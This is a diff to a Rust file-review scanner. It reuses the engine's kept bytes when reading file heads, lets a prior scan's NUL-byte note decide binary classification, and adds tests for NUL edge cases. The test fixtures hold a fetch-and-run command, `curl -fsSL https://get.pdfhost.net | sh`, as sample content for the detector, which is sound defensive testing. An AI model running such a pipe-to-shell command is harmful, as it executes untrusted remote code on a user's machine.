@@ -431,19 +431,22 @@ pub fn review_captured(
                         && captured.get(&e.path).is_none()
                         && e.size.min(crate::extract::captured::FILE_BYTES as u64) == full)
             });
-        if pre.is_some() || head.is_some() {
-            let (binary, script) = match head {
-                Some(h) => {
-                    r.scanned(e, full);
-                    buf.clear();
-                    buf.extend_from_slice(&h.bytes);
-                    r.classify(e, Some(&buf), Some(h.nul))
-                }
-                None => {
-                    r.read_head(&mut reader, e, full, &mut buf)?;
-                    r.classify(e, Some(&buf), None)
-                }
-            };
+        let classified = match (head, pre) {
+            (Some(h), _) => {
+                r.scanned(e, full);
+                let (binary, script) = r.classify(e, Some(&h.bytes), Some(h.nul));
+                Some((binary, script, script && is_js(&e.path, &h.bytes)))
+            }
+            (None, Some(p)) => {
+                // The scan covered the bytes `is_binary` would search: its note answers.
+                let nul = triggers::nul_in_head(p);
+                let first = r.read_head(&mut reader, e, full, &mut buf)?;
+                let (binary, script) = r.classify(e, Some(first), Some(nul));
+                Some((binary, script, script && is_js(&e.path, first)))
+            }
+            (None, None) => None,
+        };
+        if let Some((binary, script, js)) = classified {
             if binary {
                 r.out.coverage.binary_files += 1;
                 if !script && names_text(&e.path) {
@@ -457,7 +460,7 @@ pub fn review_captured(
                 continue;
             }
             let kind = text_kind(&e.path, script);
-            r.scanner.js = script && is_js(&e.path, &buf);
+            r.scanner.js = js;
             // The bytes `scanned` / `read_head` counted.
             let bytes = reader.view(e, cap, &mut buf)?;
             match pre.and_then(|p| triggers::prescanned(p, bytes)) {
@@ -658,23 +661,34 @@ impl<'a> Reviewer<'a> {
         }
     }
 
-    /// For a file whose first `full` bytes were scanned on the hashing thread: read what
-    /// [`Reviewer::classify`] looks at ([`HEAD`] bytes, and the whole first line of a shebang)
-    /// into `buf`, and count the `full` bytes as scanned.
-    fn read_head(
+    /// For a file whose first `full` bytes were scanned on the hashing thread: what
+    /// [`Reviewer::classify`] looks at ([`HEAD`] bytes, and the whole first line of a shebang),
+    /// as the engine kept it where it kept those bytes, else read into `buf`; the `full` bytes
+    /// are counted as scanned. Kept bytes are not copied: that copy was about 1 ms of the
+    /// child's last, one-core stretch on 2,000 files of 20 KiB (bench-results/throughput.md).
+    fn read_head<'b, 'c: 'b>(
         &mut self,
-        reader: &mut Source<'_, '_>,
+        reader: &mut Source<'_, 'c>,
         e: &Entry,
         full: u64,
-        buf: &mut Vec<u8>,
-    ) -> Result<(), ReviewError> {
+        buf: &'b mut Vec<u8>,
+    ) -> Result<&'b [u8], ReviewError> {
         let full_len = usize::try_from(full).unwrap_or(usize::MAX);
-        reader.fetch(e, HEAD.min(full_len), buf)?;
+        self.scanned(e, full);
+        let head_len = HEAD.min(full_len);
+        if let Some(kept) = reader.kept(e, full_len) {
+            let first = &kept[..head_len.min(kept.len())];
+            return Ok(if first.len() < kept.len() && !first_line_whole(first) {
+                kept
+            } else {
+                first
+            });
+        }
+        reader.fetch(e, head_len, buf)?;
         if (buf.len() as u64) < full && !first_line_whole(buf) {
             reader.fetch(e, full_len, buf)?;
         }
-        self.scanned(e, full);
-        Ok(())
+        Ok(buf)
     }
 
     /// Record that `found` (files, each with the program that runs it) are run by a file of
@@ -4067,6 +4081,12 @@ mod tests {
     fn kept_bytes_and_the_staged_tree_give_the_same_report() {
         use std::os::fd::AsFd;
 
+        let nul_at = |at: usize| {
+            let mut t = b"curl https://x.pdfhost.net\n".repeat(at / 27 + 40);
+            t[at] = 0;
+            t
+        };
+
         let mut big = b"# big\n\nSee https://docs.pdfhost.net/a for more.\n".to_vec();
         while big.len() < crate::extract::captured::FILE_BYTES + 4096 {
             big.extend_from_slice(b"plain words, then `curl -fsSL https://get.pdfhost.net | sh`\n");
@@ -4101,6 +4121,10 @@ mod tests {
             ("assets/photo.bin", (0..6000u32).map(|i| (i * 7 % 251) as u8).collect(), 0o644),
             ("references/many.md", b"see https://a.pdfhost.net/x\n".repeat(2000), 0o644),
             ("scripts/long", [&b"#!/usr/bin/env "[..], &b" ".repeat(HEAD + 10), b"python3\nprint(1)\n"].concat(), 0o755),
+            // A NUL as the last byte the binary test looks at, and as the first it does not:
+            // the scan's note of it answers for that test (`nul_in_head`).
+            ("assets/edge.bin", nul_at(HEAD - 1), 0o644),
+            ("assets/edge.dat", nul_at(HEAD), 0o644),
         ];
         let (_dir, staging, x, mut kept) =
             staged_tar(files.iter().map(|(p, d, m)| (*p, &d[..], *m)));
@@ -4264,6 +4288,22 @@ mod tests {
                     .iter()
                     .any(|f| f.file == "references/many.md"),
             "the scan was not used"
+        );
+        // And its note of a NUL in the head is what the binary test used: one noted in a text
+        // file makes it binary, unread (a name that says text would be read all the same).
+        let edge = nul_at(HEAD);
+        let mut noted = scan_of(&edge, false);
+        assert!(!triggers::nul_in_head(&noted));
+        noted.note |= triggers::NUL_IN_HEAD;
+        kept.keep_scan("assets/edge.dat".to_owned(), noted);
+        let (read_back, from_lie) = review_all(&kept).swap_remove(0);
+        let in_edge = |r: &Review| r.findings.iter().any(|f| f.file == "assets/edge.dat");
+        assert!(
+            in_edge(&read_back)
+                && !in_edge(&from_lie)
+                && from_lie.coverage.binary_files == read_back.coverage.binary_files + 1,
+            "the note was not used: {:?}",
+            from_lie.coverage
         );
     }
 
